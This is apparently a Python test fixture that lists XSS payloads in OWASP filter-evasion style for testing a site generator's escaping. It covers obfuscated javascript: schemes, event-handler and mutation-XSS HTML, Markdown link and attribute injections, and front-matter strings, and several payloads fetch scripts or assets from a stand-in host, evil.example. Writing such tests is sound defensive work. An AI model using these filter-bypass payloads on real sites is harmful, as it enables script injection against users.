"""Hostile payloads, after the classes of OWASP's XSS filter evasion cheat sheet, written where an
attacker (or a hurried editor pasting from an e-mail) could put them: page text as Markdown, raw
HTML and attribute lists, link and image addresses, every front-matter text field, the config
and the taxonomy labels.

Each payload that ran would call alert() with its id, or ask https://evil.example/ID for a
file: the browser test watches for both."""

from __future__ import annotations

EVIL = "https://evil.example"

# Page text: raw HTML (script, handlers, obfuscated schemes, mutation XSS, foreign loads).
RAW_HTML = {
    "h01": "<script>alert('h01')</script>",
    "h02": f"<SCRIPT SRC={EVIL}/h02.js></SCRIPT>",
    "h03": "<IMG SRC=\"javascript:alert('h03');\">",
    "h04": "<IMG SRC=JaVaScRiPt:alert('h04')>",
    "h05": "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
           "&#101;&#114;&#116;&#40;&#39;&#104;&#48;&#53;&#39;&#41;>",
    "h06": "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
           "&#x72&#x74&#x28&#x27&#x68&#x30&#x36&#x27&#x29>",
    "h07": "<IMG SRC=\"jav\tascript:alert('h07');\">",
    "h08": "<IMG SRC=\"jav&#x0A;ascript:alert('h08');\">",
    "h09": "<IMG SRC=\" &#14;  javascript:alert('h09');\">",
    "h10": f"<SCRIPT/XSS SRC=\"{EVIL}/h10.js\"></SCRIPT>",
    "h11": "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert('h11')>",
    "h12": "<<SCRIPT>alert('h12');//<</SCRIPT>",
    "h13": "<IMG \"\"\"><SCRIPT>alert('h13')</SCRIPT>\">",
    "h14": "<img src=/static/images/walk.png onerror=alert('h14')>",
    "h15": "<svg/onload=alert('h15')>",
    "h16": "<svg><script>alert('h16')</script></svg>",
    "h17": "<iframe src=\"javascript:alert('h17')\"></iframe>",
    "h18": "<iframe srcdoc=\"<script>parent.alert('h18')</script>\"></iframe>",
    "h19": "<object data=\"javascript:alert('h19')\"></object>",
    "h20": "<embed src=\"data:text/html,<script>alert('h20')</script>\">",
    "h21": "<a href=\"javascript:alert('h21')\">h21</a>",
    "h22": "<a href=\"  javascript:alert('h22')\">h22</a>",
    "h23": "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnaDIzJyk8L3NjcmlwdD4=\">h23</a>",
    "h24": "<a href=\"vbscript:msgbox('h24')\">h24</a>",
    "h25": f"<base href=\"{EVIL}/h25/\">",
    "h26": f"<link rel=stylesheet href=\"{EVIL}/h26.css\">",
    "h27": f"<style>@import '{EVIL}/h27.css'; body {{ background: url({EVIL}/h27.png) }}</style>",
    "h28": f"<div style=\"background-image: url({EVIL}/h28.png)\">h28</div>",
    "h29": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('h29')\">",
    "h30": f"<form action=\"{EVIL}/h30\"><button>h30</button></form>",
    "h31": "<input autofocus onfocus=alert('h31')>",
    "h32": "<details open ontoggle=alert('h32')><summary>h32</summary>x</details>",
    "h33": "<video><source onerror=\"alert('h33')\"></video>",
    "h34": "<math><mtext><table><mglyph><style><img src=/static/images/walk.png onerror=alert('h34')>",
    "h35": "<noscript><p title=\"</noscript><img src=/static/images/walk.png onerror=alert('h35')>\"></noscript>",
    "h36": "<!--<img src=\"--><img src=/static/images/walk.png onerror=alert('h36')//\">",
    "h37": "<a href=\"java&#0000106ascript:alert('h37')\">h37</a>",
    "h38": "<a href=\"&#x6a;avascript&colon;alert('h38')\">h38</a>",
    "h39": "<xss onpointerover=alert('h39')>h39</xss>",
    "h40": f"<object data=\"{EVIL}/h40.swf\"></object>",
    "h41": f"<img srcset=\"{EVIL}/h41.png 1x\" alt=\"h41\">",
    "h42": f"<img src=\"{EVIL}/h42.png\" alt=\"h42\">",
    "h43": f"<img src=\"//evil.example/h43.png\" alt=\"h43\">",
    "h44": f"<a href=\"\\\\evil.example\\h44\">h44</a>",
    "h45": "<img src=x:alert(alt) onerror=eval(src) alt='h45'>",
    "h46": "<div id=\"main-content-h46\" onmouseover=\"alert('h46')\">h46</div>",
    "h47": f"<audio src=\"{EVIL}/h47.mp3\" autoplay></audio>",
    "h48": "<table background=\"javascript:alert('h48')\"><tr><td>h48</td></tr></table>",
    "h49": f"<iframe src=\"{EVIL}/h49\" title=\"h49\"></iframe>",
    "h50": "<plaintext><script>alert('h50')</script>",
}

# Page text written as Markdown: links, images, references and attribute lists.
MARKDOWN = {
    "m01": "[m01](javascript:alert('m01'))",
    "m02": "[m02](<javascript:alert('m02')>)",
    "m03": "![m03](javascript:alert('m03'))",
    "m04": "[m04][m04ref]\n\n[m04ref]: javascript:alert('m04')",
    "m05": "[m05](JaVaScRiPt:alert('m05'))",
    "m06": "[m06](data:text/html;base64,PHNjcmlwdD5hbGVydCgnbTA2Jyk8L3NjcmlwdD4=)",
    "m07": f"![m07]({EVIL}/m07.png)",
    "m08": "m08 paragraph\n{: onclick=\"alert('m08')\" }",
    "m09": f"m09 paragraph\n{{: style=\"background:url({EVIL}/m09.png)\" }}",
    "m10": "[m10](/en/){: onmouseover=\"alert('m10')\" }",
    "m11": "[m11](/en/){: href=\"javascript:alert('m11')\" }",
    "m12": "## m12 heading {: onclick=\"alert('m12')\" }",
    "m13": "[m13](//evil.example/m13)",
    "m14": "<javascript:alert('m14')>",
}

# Front-matter text fields and config text: escaped wherever they are written (HTML, attributes,
# JSON-LD, feeds, calendars).
TEXT = {
    "t01": "<script>alert('t01')</script>",
    "t02": "\"><img src=/static/images/walk.png onerror=alert('t02')>",
    "t03": "</script><script>alert('t03')</script>",
    "t04": "' onmouseover='alert(\"t04\")",
    "t05": "{{ 7*7 }}<svg onload=alert('t05')>",
}


def body_payloads() -> dict[str, str]:
    """Every page-text payload by id; each goes on a page of its own, so that one payload that
    leaves an element open cannot hide the next."""
    return {**MARKDOWN, **RAW_HTML}


def payload_count() -> int:
    return len(RAW_HTML) + len(MARKDOWN) + len(TEXT)
